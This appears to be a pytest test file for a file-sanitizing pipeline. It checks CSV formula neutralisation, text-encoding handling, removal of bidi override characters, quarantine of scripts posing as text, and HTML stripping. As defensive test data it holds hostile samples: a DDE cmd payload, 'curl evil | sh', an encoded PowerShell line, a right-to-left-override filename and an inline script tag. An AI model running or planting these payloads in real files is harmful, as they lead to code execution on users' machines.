from __future__ import annotations

import csv
import io
from pathlib import Path

from cdr.model import Outcome
from cdr.pipeline import Pipeline
from tests import builders
from tests.contract import SanitizerContract

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(data: bytes, encoding: str = "cp932") -> list[str]:
    """Cells a spreadsheet would evaluate, read with the csv module (not the sanitizer)."""
    rows = csv.reader(io.StringIO(data.decode(encoding), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(",", "").isdigit()
    ]


class TestShiftJisCsv(SanitizerContract):
    name = "請求一覧.csv"

    def hostile(self) -> bytes:
        return builders.SJIS_CSV

    def planted(self, data: bytes) -> list[str]:
        return _formula_cells(data)

    def assert_benign_survived(self, original: bytes, output: bytes) -> None:
        text = output.decode("cp932")  # the source encoding is kept for Excel
        assert "山田太郎" in text and "返金" in text and "-1200" in text
        assert "'=cmd|' /C calc'!A0" in text

    def malformed(self) -> bytes:
        return b"\x00\x01\x02binary\x00" * 50


def test_plain_text_keeps_euc_jp(pipeline: Pipeline, tmp_path: Path) -> None:
    source = tmp_path / "memo.txt"
    source.write_bytes("熊の目撃情報：午前九時、役場の裏山にて。\n".encode("euc_jp"))
    verdict = pipeline.process(source, source.name)
    assert verdict.verdict == Outcome.RELEASED
    assert Path(verdict.output).read_bytes().decode("euc_jp").startswith("熊の目撃情報")


def test_utf16_with_bom_and_bidi_override(pipeline: Pipeline, tmp_path: Path) -> None:
    source = tmp_path / "note.txt"
    source.write_bytes("invoice\u202egpj.exe\nline two\n".encode("utf-16"))
    verdict = pipeline.process(source, source.name)
    assert verdict.verdict == Outcome.RELEASED
    text = Path(verdict.output).read_bytes().decode("utf-16")
    assert "\u202e" not in text and "invoicegpj.exe" in text
    assert {"what": "bidi-control", "action": "removed", "count": 1} in verdict.actions


def test_script_dressed_as_text_is_quarantined(pipeline: Pipeline, tmp_path: Path) -> None:
    for name, body in (
        ("readme.txt", b"#!/bin/sh\ncurl evil | sh\n"),
        ("notes.txt", b"@echo off\r\npowershell -enc AAAA\r\n"),
    ):
        source = tmp_path / name
        source.write_bytes(body)
        verdict = pipeline.process(source, name)
        assert verdict.verdict == Outcome.QUARANTINED and verdict.type == "script", verdict


def test_html_becomes_visible_text(pipeline: Pipeline, tmp_path: Path) -> None:
    source = tmp_path / "page.html"
    source.write_text(
        "<!doctype html><html><body><h1>お知らせ</h1><script>alert(1)</script>"
        "<p onclick='x()'>本文</p></body></html>",
        encoding="utf-8",
    )
    verdict = pipeline.process(source, source.name)
    assert verdict.verdict == Outcome.RELEASED and verdict.output.endswith("page.txt")
    text = Path(verdict.output).read_text(encoding="utf-8")
    assert "お知らせ" in text and "本文" in text and "alert" not in text and "<" not in text
